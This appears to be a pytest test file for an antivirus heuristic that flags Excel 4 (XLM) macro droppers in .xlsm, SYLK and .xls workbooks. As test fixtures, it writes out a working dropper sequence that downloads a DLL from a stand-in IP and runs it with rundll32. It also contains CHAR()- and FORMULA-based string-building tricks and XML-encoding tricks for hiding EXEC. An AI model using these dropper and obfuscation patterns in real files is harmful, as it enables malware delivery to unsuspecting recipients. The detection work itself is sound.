"""Excel 4 (XLM) macros that run on open and do what droppers do (fixer19 F7): at `medium`,
VBA that runs automatically and uses shell/download traits was "Heuristic.Macro.AutoExecShell"
but an Excel 4 macro sheet with an Auto_Open name calling EXEC / CALL / REGISTER /
URLDownloadToFile, writing files (FOPEN+FWRITE), writing its own formulas (FORMULA,
SET.VALUE, writing formulas it builds) or building strings with CHAR() passed: the Emotet/Qakbot/ZLoader XLM droppers of
2020-22 (core/scan/heuristics/excel4.py). Now it is AutoExecShell, in OOXML (.xlsm/.xltm),
SYLK and BIFF (.xls) workbooks alike; without an automatic name, or without a trait (the
oletools samples: Auto_Open + ALERT), it stays "Heuristic.Macro.Present" at `high`."""

from __future__ import annotations

import re
from xml.sax.saxutils import escape

import pytest

from core.pipeline.checks import antivirus
from core.scan.heuristics import LEVELS, detect
from tests.unit.scan.support import as_attachment, corpus_or_skip, settings, view_of
from tests.unit.scan.test_av18_excel4 import EXCEL4, workbook

SHEET_OPEN = (b'<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
              b'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>')
SHEET_CLOSE = b"</sheetData></xm:macrosheet>"
DROPPER = ('REGISTER("URLMON","URLDownloadToFileA","JJCCJJ","Download",,1,9)',
           'Download(0,"http://203.0.113.7/p.dll","C:\\Users\\Public\\p.dll",0,0)',
           'EXEC("rundll32.exe C:\\Users\\Public\\p.dll,DllRegisterServer")', "HALT()")


def sheet(*formulas: str, raw: bytes = b"") -> bytes:
    """A macro sheet's XML: `formulas` in A1, A2, ... (escaped), then `raw` cells as written."""
    rows = b"".join(f'<row r="{i}"><c r="A{i}"><f>{escape(f)}</f></c></row>'.encode()
                    for i, f in enumerate(formulas, 1))
    return SHEET_OPEN + rows + raw + SHEET_CLOSE


def sylk(*formulas: str, names: tuple[str, ...] = ("Auto_Open",)) -> bytes:
    """A SYLK macro sheet (`O;E`) with `formulas` in R1C1, R2C1, ... and `names` -> R1C1."""
    return (b"ID;PWXL;N;E\r\nP;PGeneral\r\nO;L;E;D;V0;K47;G100 0.001\r\n"
            + b"".join(b"NN;N" + n.encode() + b";ER1C1\r\n" for n in names)
            + b"".join(f"C;Y{i};X1;K0;E{f}\r\n".encode() for i, f in enumerate(formulas, 1))
            + b"E\r\n")


def _found(name: str, data: bytes, level: str) -> list:
    view = view_of(as_attachment(name, data))
    return [h for _p, h in detect(view, view.parts, level)]


def _lowest(name: str, data: bytes) -> tuple[str | None, str | None]:
    """(the lowest level that detects the file, the detection's name there)."""
    for level in LEVELS[1:]:
        if hits := _found(name, data, level):
            return level, hits[0].name
    return None, None


SHELL = ("medium", "Heuristic.Macro.AutoExecShell")
PRESENT = ("high", "Heuristic.Macro.Present")


@pytest.mark.parametrize("formulas, trait", [
    (DROPPER, "EXEC"),
    (DROPPER, "REGISTER"),
    (DROPPER, "URLDownloadToFile"),
    (('CALL("Kernel32","CreateDirectoryA","JCJ","C:\\Data",0)', "HALT()"), "CALL"),
    (('FOPEN("C:\\Users\\Public\\a.vbs",3)', 'FWRITELN(R1C1,"CreateObject")', "HALT()"),
     "FOPEN/FWRITE"),
    (("FORMULA(CHAR(61)&CHAR(69)&CHAR(88)&CHAR(69)&CHAR(67),R5C1)", "GOTO(R5C1)"),
     "CHAR() strings"),
    (("FORMULA(R10C1&R11C1,R5C1)", "GOTO(R5C1)"), "FORMULA"),
    (('SET.VALUE(R10C1,"=EX"&"EC(""calc"")")', "GOTO(R10C1)"), "SET.VALUE"),
    (('FORMULA.FILL("="&R10C1&"("&R11C1&")",R5C1)', "HALT()"), "FORMULA.FILL"),
    # "=EX" kept in a cell, the rest written as a string (review19 r4 R2)
    (('FORMULA(R10C1&"EC(""calc.exe"")",R5C1)', "GOTO(R5C1)"), "FORMULA"),
    (('FORMULA(R10C1&R11C1&"(""calc"")",R5C1)', "GOTO(R5C1)"), "FORMULA"),
], ids=["exec", "register", "urldownloadtofile", "call", "fopen-fwrite", "char", "formula",
        "set-value", "formula-fill", "formula-cell-first", "formula-cells-then-string"])
def test_auto_open_macro_sheet_with_a_trait_is_autoexecshell_at_medium(formulas, trait):
    package = workbook(cells=sheet(*formulas))
    assert _lowest("invoice.xlsm", package) == SHELL
    [hit] = _found("invoice.xlsm", package, "medium")
    assert "Excel 4 (XLM) macros that run automatically (Auto_Open)" in hit.reason
    assert trait in hit.reason and "xl/macrosheets/sheet1.xml" in hit.reason
    assert not hit.repairable
    # the same macros as a SYLK file
    assert _lowest("invoice.slk", sylk(*formulas)) == SHELL, trait
    assert trait in _found("invoice.slk", sylk(*formulas), "medium")[0].reason


@pytest.mark.parametrize("names, expected", [
    (("_xlnm.Auto_Open",), SHELL),
    (("Auto_Open",), SHELL),
    (("auto_open",), SHELL),             # Excel matches names whatever their case
    (("AUTO_OPEN",), SHELL),
    (("Auto_Open21",), SHELL),           # ... and runs every name that starts Auto_Open
    (("auto_openxyz", "Data"), SHELL),
    (("_xlnm.Auto_Close",), SHELL),      # runs when the workbook closes
    (("Auto_Activate1",), SHELL),
    (("Data", "Start"), PRESENT),        # no name Excel runs by itself
    (("AutoOpen",), PRESENT),            # VBA's Word name; Excel 4 runs Auto_Open
    (("Open_Auto",), PRESENT),
    ((), PRESENT),
], ids=["xlnm-auto-open", "auto-open", "lower", "upper", "suffix-digits", "suffix-letters",
        "auto-close", "auto-activate", "other-names", "vba-autoopen", "open-auto", "none"])
def test_only_names_excel_runs_by_itself_make_it_run_on_open(names, expected):
    assert _lowest("invoice.xlsm", workbook(cells=sheet(*DROPPER), names=names)) == expected
    assert _lowest("invoice.slk", sylk(*DROPPER, names=names)) == expected


@pytest.mark.parametrize("formulas", [
    ('ALERT("Quarterly report ready")', "HALT()"),
    ('ALERT("a"&CHAR(10)&"b")', 'ALERT(CHAR(9))', "HALT()"),    # two CHAR(): no built string
    ('ALERT(CALLER())', 'ALERT("EXECUTE the plan, REGISTER now")', "RUN(R1C2)", "HALT()"),
    ('ALERT("EXEC")', "SELECT(R1C1)", "HALT()"),      # the word, not a call
    # what ordinary macros do at the default level (review19 D2): a fixed formula or a label
    # written into a cell, values set, line breaks in a message
    ('FORMULA("=SUM(R1C1:R3C1)",R5C1)', 'FORMULA("Total: "&R5C1,R6C1)', 'SET.VALUE(R7C1,0)',
     'FORMULA.FILL("=R[-1]C+1",R8C1:R20C1)', "HALT()"),
    ('ALERT("Done"&CHAR(10)&"Saved"&CHAR(10)&"Closed"&CHAR(13)&CHAR(10))', "HALT()"),
    ('ALERT("Name:"&CHAR(9)&R1C1&CHAR(13)&CHAR(10)&CHAR(34)&R2C1&CHAR(34))', "HALT()"),
], ids=["alert", "one-char", "callers-and-words", "word", "cells-written", "line-breaks",
        "tab-crlf-quotes"])
def test_auto_open_macro_sheet_without_a_trait_stays_present_at_high(formulas):
    assert _lowest("invoice.xlsm", workbook(cells=sheet(*formulas))) == PRESENT
    assert _lowest("invoice.slk", sylk(*formulas)) == PRESENT


def test_formulas_are_read_as_excel_reads_the_xml():
    # character references, CDATA and a prefixed element are all "EXEC" to Excel
    for cell in (b"<c r=\"A1\"><f>&#69;&#x58;EC(&quot;calc&quot;)</f></c>",
                 b"<c r=\"A1\"><f><![CDATA[EXEC(\"calc\")]]></f></c>",
                 b"<c r=\"A1\" xmlns:s=\"http://schemas.openxmlformats.org/spreadsheetml/2006/"
                 b"main\"><s:f>EXEC(\"calc\")</s:f></c>"):
        package = workbook(cells=sheet(raw=b'<row r="1">' + cell + b"</row>"))
        assert _lowest("invoice.xlsm", package) == SHELL, cell
    # a value is no formula: the cached result of a cell is not what runs
    package = workbook(cells=sheet(raw=b'<row r="1"><c r="A1" t="str"><v>EXEC("calc")</v></c>'
                                       b"</row>"))
    assert _lowest("invoice.xlsm", package) == PRESENT


def test_corpus_excel4_samples_stay_present_and_say_they_run_on_open():
    # Auto_Open + ALERT: no trait, so not AutoExecShell; the reason names what runs
    for suffix in (".xls", ".xlt", ".xlsm", ".xltm", ".slk"):
        path = corpus_or_skip() / EXCEL4 / f"excel4_sample_macro{suffix}"
        if not path.is_file():
            pytest.skip(f"{path} not in the shared corpus")
        assert _lowest(path.name, path.read_bytes()) == PRESENT, suffix
        [hit] = _found(path.name, path.read_bytes(), "high")
        assert "that run automatically (Auto_Open)" in hit.reason, suffix


def _biff(alert_to_exec: bool, auto_open: bool) -> bytes:
    """The oletools BIFF8 sample with its ALERT (function 0x8076) called as EXEC (0x006E),
    and/or its LABEL record's built-in name Auto_Open (1) made Extract (3): the same
    record sizes, so the OLE2 file stays whole."""
    data = bytearray((corpus_or_skip() / EXCEL4 / "excel4_sample_macro.xls").read_bytes())
    if alert_to_exec:
        [call] = [m.start() for m in re.finditer(rb"\x42\x01\x76\x80", data)]
        data[call + 2:call + 4] = b"\x6e\x00"
    if not auto_open:
        [label] = [m.start() for m in re.finditer(rb"\x18\x00\x17\x00\x20\x00", data)]
        assert data[label + 4 + 15] == 1            # built-in name 1: Auto_Open
        data[label + 4 + 15] = 3
    return bytes(data)


def test_biff_workbook_that_runs_exec_on_open_is_autoexecshell():
    assert _lowest("invoice.xls", _biff(True, True)) == SHELL
    [hit] = _found("invoice.xls", _biff(True, True), "medium")
    assert "run automatically (Auto_Open) and use EXEC" in hit.reason
    assert _lowest("invoice.xls", _biff(True, False)) == PRESENT     # EXEC, nothing runs it
    assert _lowest("invoice.xls", _biff(False, True)) == PRESENT     # Auto_Open, ALERT


def test_the_antivirus_check_deletes_it_at_medium():
    view = view_of(as_attachment("invoice.xlsm", workbook(cells=sheet(*DROPPER))))
    [finding] = antivirus.check(view, settings(av__heuristics="medium"))
    assert (finding.event, finding.rule, finding.action) == (
        "file_deleted", "av.on_unrepairable", "remove_part")
    assert finding.data["virus"] == "Heuristic.Macro.AutoExecShell"
    assert "Auto_Open" in finding.reason and "EXEC" in finding.reason
    assert "[medium]" in finding.reason
    assert antivirus.check(view, settings(av__heuristics="low")) == []
    # a SYLK file, whatever it is called
    view = view_of(as_attachment("prices.csv", sylk(*DROPPER)))
    [finding] = antivirus.check(view, settings(av__heuristics="medium"))
    assert finding.data["virus"] == "Heuristic.Macro.AutoExecShell"


def test_a_huge_macro_sheet_is_read_only_so_far():
    # EXEC after MAX_XML_READ octets of cells is not read (the sheet is still a macro sheet,
    # present at high); before them it is
    from core.scan.heuristics.excel4 import MAX_XML_READ
    filler = b'<row r="1"><c r="B1"><v>' + b"1" * (MAX_XML_READ + 2**20) + b"</v></c></row>"
    late = b'<row r="2"><c r="A2"><f>EXEC("calc")</f></c></row>'
    unread = workbook(cells=sheet(raw=filler + late))
    assert _found("big.xlsm", unread, "medium") == []
    assert [h.name for h in _found("big.xlsm", unread, "high")] == ["Heuristic.Macro.Present"]
    assert [h.name for h in _found("big.xlsm", workbook(cells=sheet(raw=late + filler)),
                                   "medium")] == ["Heuristic.Macro.AutoExecShell"]
